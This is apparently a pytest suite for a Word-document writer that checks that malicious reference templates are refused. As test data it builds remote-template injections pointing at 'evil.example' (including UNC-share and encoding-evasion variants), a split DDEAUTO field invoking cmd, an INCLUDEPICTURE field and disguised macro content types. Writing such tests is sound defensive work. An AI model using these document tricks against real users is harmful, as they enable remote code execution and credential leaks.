"""A Word template that runs, leads outside or is broken is refused in words, never let out."""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from lxml import etree

from diptych.errors import DiptychError
from diptych.writers import docx
from diptych.writers.docx import TemplateError
from diptych.writers.docx.reference import Reference
from everything import EVERYTHING

TEMPLATE = Path(__file__).parents[2] / "templates" / "docx" / "reference.docx"
DOCUMENTS = [make() for make in EVERYTHING.values()]

_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = f'xmlns:r="{_TYPE}"'

Parts = dict[str, bytes]


def parts() -> Parts:
    with zipfile.ZipFile(TEMPLATE) as package:
        return {name: package.read(name) for name in package.namelist()}


def written(changed: Parts, folder: Path, document: int = 0) -> bytes:
    with zipfile.ZipFile(folder / "reference.docx", "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in changed.items():
            package.writestr(name, data)
    return docx.write(DOCUMENTS[document], folder)


def rels(target: str, mode: str = "", kind: str = "attachedTemplate") -> str:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="r1" Type="{_TYPE}/{kind}" Target="{target}" {mode}/>'
        "</Relationships>"
    )


URL = "https://evil.example/a.dotm"
SETTINGS = "word/_rels/settings.xml.rels"


def utf16(text: str) -> bytes:
    return text.replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")


def edited(part: str, old: str, new: str) -> Callable[[Parts], None]:
    def change(found: Parts) -> None:
        assert old.encode() in found[part]
        found[part] = found[part].replace(old.encode(), new.encode(), 1)

    return change


def attached(rel: bytes) -> Callable[[Parts], None]:
    """The settings have a relationship to a template."""
    return added(SETTINGS, rel)


def added(name: str, data: bytes, media: str = "") -> Callable[[Parts], None]:
    def change(found: Parts) -> None:
        found[name] = data
        if media:
            types = f'<Override PartName="/{name}" ContentType="{media}"/></Types>'
            edited("[Content_Types].xml", "</Types>", types)(found)

    return change


ATTACKS: dict[str, tuple[Callable[[Parts], None], str]] = {
    "a reference to a letter": (
        attached(rels(URL, 'TargetMode="&#69;xternal"').encode()),
        SETTINGS,
    ),
    "UTF-16": (attached(utf16(rels(URL, 'TargetMode="External"'))), SETTINGS),
    "single quotes and line ends": (
        attached(rels(URL, "TargetMode\n=\n'External'").encode()),
        SETTINGS,
    ),
    "an address that says it is inside": (attached(rels(URL).encode()), SETTINGS),
    "a share of a network": (attached(rels(r"\\evil.example\a.dotm").encode()), SETTINGS),
    "a template of the package itself": (attached(rels("a.dotm").encode()), SETTINGS),
    "an entity": (
        attached(
            rels(URL, 'TargetMode="&e;"')
            .replace("?>", '?><!DOCTYPE Relationships [<!ENTITY e "External">]>', 1)
            .encode()
        ),
        SETTINGS,
    ),
    "an empty document type in UTF-16": (
        lambda found: found.update(
            {"word/theme/theme1.xml": utf16('<?xml version="1.0"?><!DOCTYPE a><a/>')}
        ),
        "word/theme/theme1.xml",
    ),
    "an encoding that few know": (
        added("word/a.xml", '<?xml version="1.0" encoding="UTF-7"?><a/>'.encode("utf-7")),
        "word/a.xml",
    ),
    "rels in capitals": (
        added("word/_rels/a.xml.RELS", rels(URL, 'TargetMode="External"').encode()),
        "word/_rels/a.xml.RELS",
    ),
    "rels by their media type alone": (
        added(
            "word/a.dat",
            rels(URL, 'TargetMode="External"').encode(),
            "application/vnd.openxmlformats-package.relationships+xml",
        ),
        "word/a.dat",
    ),
    "the name of a template": (
        edited("word/settings.xml", "</w:settings>", "<w:attachedTemplate/></w:settings>"),
        "attachedTemplate",
    ),
    "a data source": (
        edited("word/settings.xml", "</w:settings>", "<w:mailMerge/></w:settings>"),
        "mailMerge",
    ),
    "a field that runs, in two runs": (
        added(
            "word/footnotes.xml",
            f"<w:footnotes {_W}><w:instrText> DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>"
            "</w:footnotes>".encode(),
        ),
        "DDEAUTO",
    ),
    "a simple field that loads": (
        added(
            "word/a.xml", f"<w:p {_W}><w:fldSimple w:instr=' includepicture \"x\"'/></w:p>".encode()
        ),
        "includepicture",
    ),
    "a picture by its address": (
        added("word/a.xml", f'<v xmlns="urn:v" src="{URL}"/>'.encode()),
        "word/a.xml",
    ),
    "macros by another name": (
        added("word/a.bin", b"x", "application/vnd.ms-office.vba&#80;roject"),
        "macros",
    ),
    "something that nobody knows": (added("word/a.bin", b"x"), "word/a.bin"),
    "a name with an escape": (added("word/_rels/a.xml.%72els", b"<a/>"), "%72els"),
    "a name with a line end": (added("word/a\r\nb.xml", b"<a/>"), "word/a"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_template_that_runs_or_leads_outside_is_refused(name: str, tmp_path: Path) -> None:
    change, named = ATTACKS[name]
    found = parts()
    change(found)
    with pytest.raises(TemplateError) as caught:
        written(found, tmp_path)
    assert named in str(caught.value)
    assert "\n" not in str(caught.value)


def test_a_template_as_word_leaves_it_is_taken(tmp_path: Path) -> None:
    found = parts()
    added("customXml/item1.xml", utf16('<?xml version="1.0"?><a/>'))(found)
    added("word/media/image1.png", b"\x89PNG", "image/png")(found)
    fields = "".join(
        f"<w:fldChar/><w:instrText>{code}</w:instrText>"
        for code in ("PAGE", ' STYLEREF "Quote" ', "LINKED", 'TC "the DDE"')
    )
    added("word/a.xml", f"<w:p {_W}>{fields}</w:p>".encode())(found)
    added("word/people.xml", b"<!-- a note --><people/>", "application/x+xml")(found)
    found["word/_rels/document.xml.rels"] = found["word/_rels/document.xml.rels"].replace(
        b"<Relationship ", b'<Relationship TargetMode="Internal" ', 1
    )
    assert written(found, tmp_path)


@pytest.mark.parametrize("name", sorted(parts()))
@pytest.mark.parametrize("data", [b"", b"<a", b"<a/>", b"\xff\xfe<", b"\0" * 9, None])
def test_a_part_that_is_broken_is_told_by_its_name(
    name: str, data: bytes | None, tmp_path: Path
) -> None:
    found = parts()
    found[name] = found[name][: len(found[name]) // 2] if data is None else data
    try:
        written(found, tmp_path)
        told = ""
    except DiptychError as error:
        told = str(error)
    if data != b"<a/>":  # of some parts nothing is needed
        assert name in told


# --- parts that are XML, and not what they should be ----------------------------------

_TOKENS = ("", "x", "-1", "9" * 12, "1.5", "'", "]", "']", "1in", "auto", "\u0661", "%")
_EDIT = st.tuples(
    st.sampled_from(["delete", "forget", "set", "rename", "repeat", "empty", "move"]),
    st.integers(0, 10**6),
    st.integers(0, 10**6),
    st.sampled_from(_TOKENS),
)
_PARTS = sorted(name for name in parts() if name.startswith(("word/", "[", "_rels")))


def mutated(data: bytes, what: str, where: int, other: int, token: str) -> bytes:
    root = etree.fromstring(data)
    elements = [*root.iter("*")]
    chosen = elements[where % len(elements)]
    parent = chosen.getparent()
    attributes = sorted(chosen.keys())
    match what:
        case "delete" if parent is not None:
            parent.remove(chosen)
        case "forget" if attributes:
            del chosen.attrib[attributes[other % len(attributes)]]
        case "set" if attributes:
            chosen.set(attributes[other % len(attributes)], token)
        case "rename":
            chosen.tag = "{urn:x}y"
        case "repeat" if parent is not None:
            parent.append(etree.fromstring(etree.tostring(chosen)))
        case "empty":
            del chosen[:]
        case "move" if parent is not None:
            parent.remove(chosen)
            root.append(chosen)
    return etree.tostring(root)


@pytest.mark.slow
@settings(
    max_examples=int(os.environ.get("FUZZ_CASES", "100")),
    deadline=None,
    derandomize=True,
    phases=[Phase.generate],
    database=None,
    suppress_health_check=list(HealthCheck),
)
@given(
    st.lists(st.tuples(st.sampled_from(_PARTS), _EDIT), min_size=1, max_size=3),
    st.integers(0, len(DOCUMENTS) - 1),
)
def test_whatever_is_changed_in_a_template_it_is_written_with_or_refused_in_words(
    tmp_path_factory: pytest.TempPathFactory, edits: list, document: int
) -> None:
    found = parts()
    for name, edit in edits:
        found[name] = mutated(found[name], *edit)
    try:
        data = written(found, tmp_path_factory.mktemp("template"), document)
    except DiptychError as error:
        data, said = b"", str(error)
    if data:
        assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
    else:
        assert len(said.split("\n")) == 1


@pytest.mark.parametrize("token", ["'", "']", '"', "a' or 'b"])
def test_an_identifier_of_a_style_may_hold_any_sign(token: str, tmp_path: Path) -> None:
    found = parts()
    root = etree.fromstring(found["word/styles.xml"])
    key = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    styles = [style for style in root.iter(f"{key}style") if style.get(f"{key}type") == "table"]
    for number, style in enumerate(styles):
        style.set(f"{key}styleId", f"{token}{number}")
    found["word/styles.xml"] = etree.tostring(root)
    for number in range(len(DOCUMENTS)):
        assert written(found, tmp_path, number)


def test_a_style_that_is_based_on_itself_is_told(tmp_path: Path) -> None:
    found = parts()
    root = etree.fromstring(found["word/styles.xml"])
    key = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    for style in root.iter(f"{key}style"):
        base = etree.SubElement(style, f"{key}basedOn")
        base.set(f"{key}val", str(style.get(f"{key}styleId")))
        style.insert(0, base)
        for indent in [*style.iter(f"{key}ind")]:
            indent.getparent().remove(indent)
    found["word/styles.xml"] = etree.tostring(root)
    with pytest.raises(TemplateError, match="based on itself"):
        _indents(found, tmp_path)


def _indents(found: Parts, folder: Path) -> None:
    written(found, folder)
    reference = Reference(folder)
    reference.indent(reference.paragraph_style("body"))
